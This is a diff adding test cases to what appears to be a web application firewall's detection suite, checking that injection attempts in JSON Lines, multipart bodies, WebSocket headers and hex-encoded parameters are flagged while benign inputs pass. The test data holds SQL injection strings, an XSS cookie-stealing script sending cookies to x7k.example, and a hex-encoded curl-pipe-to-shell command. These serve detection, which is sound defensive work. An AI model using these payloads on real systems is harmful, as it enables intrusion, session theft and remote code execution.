@@ -805,10 +805,87 @@ describe("the forty-seventh pair's headers", () => {
 });
 
 describe("the forty-eighth pair's classes", () => {
+  it("reads a JSON key that holds a quote as the value an ORM writes into its SQL", () => {
+    const filter = JSON.stringify({ "meta.name') = 'x' OR 1=1 -- ": "a" });
+    expect(query(["filter", filter]).some((m) => m.startsWith("942") && m.includes("@query:filter.json-name"))).toBe(
+      true,
+    );
+    const i18n = { "Don't have an account?": "Vous n'avez pas de compte ?", "It's free": "C'est gratuit" };
+    expect(query(["messages", JSON.stringify(i18n)])).toEqual([]);
+    expect(json(i18n)).toEqual([]);
+  });
+
   it("takes a search for the records that hold a secret (`_exists_:password`)", () => {
     expect(query(["q", "*:* OR _exists_:password"])).toContain("942297@query:q");
     expect(query(["q", "_exists_:reset_token AND role:admin"])).toContain("942297@query:q");
     expect(query(["q", "_exists_:email AND status:active"])).toEqual([]);
     expect(query(["q", "password: forgot how to reset"])).toEqual([]);
+  });
+});
+
+describe("the forty-ninth pair's formats", () => {
+  const post = (text: string, contentType: string) =>
+    where({
+      method: "POST",
+      body: { bytes: new TextEncoder().encode(text), contentType, truncated: false },
+    });
+  const sqli = (found: string[]) => found.some((m) => m.startsWith("942"));
+
+  it("reads JSON Lines one document a line, under their own types and JSON's", () => {
+    const lines = [
+      '{"event":"page_view","path":"/pricing"}',
+      `{"event":"search","filter":"region='EU' OR 1=1 UNION SELECT api_key,NULL FROM tenants--"}`,
+    ].join("\n");
+    expect(post(lines, "application/x-ndjson")).toContain("942180@body:json.line1.filter");
+    expect(sqli(post(lines, "application/json"))).toBe(true);
+    const logs = ['{"level":"info","msg":"started"}', '{"level":"warn","msg":"slow query on orders"}'].join("\n");
+    expect(post(logs, "application/x-ndjson")).toEqual([]);
+  });
+
+  it("reads a JSON object sent as application/octet-stream", () => {
+    const json = JSON.stringify({ thread: 77, body: '<a href="javascript:alert(document.domain)">specs</a>' });
+    expect(post(json, "application/octet-stream").some((m) => m.endsWith("@body:json.body"))).toBe(true);
+    expect(post(JSON.stringify({ thread: 77, body: "see the specs" }), "application/octet-stream")).toEqual([]);
+  });
+
+  it("judges a WebSocket subprotocol that is no token as a value", () => {
+    expect(sqli(header("sec-websocket-protocol", "v2.notify, tenant-7' UNION SELECT token FROM sessions--"))).toBe(
+      true,
+    );
+    expect(header("sec-websocket-protocol", "graphql-transport-ws, v2.notify")).toEqual([]);
+  });
+
+  it("reads a `;name=value` in a query value as the parameter some back ends split it into", () => {
+    expect(query(["q", "boots;q=1' OR '1'='1"])).toContain("942100@query:q");
+    expect(query(["q", "tags;lang=en"])).toEqual([]);
+  });
+
+  it("unfolds a multipart part's headers and decodes a quoted-printable part", () => {
+    const folded =
+      '--b\r\nContent-Disposition: form-data;\r\n\tname="dept"\r\n\r\nMath\') OR pg_sleep(6) IS NULL--\r\n--b--\r\n';
+    expect(post(folded, "multipart/form-data; boundary=b").some((m) => m.includes("@body:multipart.dept"))).toBe(true);
+    const qp =
+      '--b\r\nContent-Disposition: form-data; name="msg"\r\nContent-Transfer-Encoding: quoted-printable\r\n\r\n=3Cscript=3Edocument.location=3D=27//x7k.example/?c=3D=27+document=\r\n.cookie=3C/script=3E\r\n--b--\r\n';
+    expect(post(qp, "multipart/form-data; boundary=b").some((m) => m.startsWith("941"))).toBe(true);
+    const plain =
+      '--b\r\nContent-Disposition: form-data; name="msg"\r\nContent-Transfer-Encoding: quoted-printable\r\n\r\nCaf=C3=A9 =3D 5 =E2=82=AC\r\n--b--\r\n';
+    expect(post(plain, "multipart/form-data; boundary=b")).toEqual([]);
+  });
+
+  it("takes a JSON object in a `query` parameter for JSON, not a GraphQL selection, and `ilike` for an operator's name", () => {
+    expect(query(["query", '{"$or":[{"group_hh/region":"bay"},{"group_hh/region":"bakool"}]}'])).toEqual([]);
+    const odoo = { params: { args: [[["name", "ilike", "o'reilly"]]] } };
+    expect(post(JSON.stringify(odoo), "application/json")).toEqual([]);
+  });
+});
+
+describe("hexadecimal text in a parameter", () => {
+  it("is judged as the line it decodes to; a digest is left alone", () => {
+    const hex = (s: string) => [...new TextEncoder().encode(s)].map((b) => b.toString(16).padStart(2, "0")).join("");
+    expect(
+      query(["arg_hex", hex("; curl -s http://198.51.100.7/x | sh")]).some((m) => m.endsWith("@query:arg_hex.hex")),
+    ).toBe(true);
+    expect(query(["digest", "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855"])).toEqual([]);
+    expect(query(["label", hex("Hello world, nice day")])).toEqual([]);
   });
 });
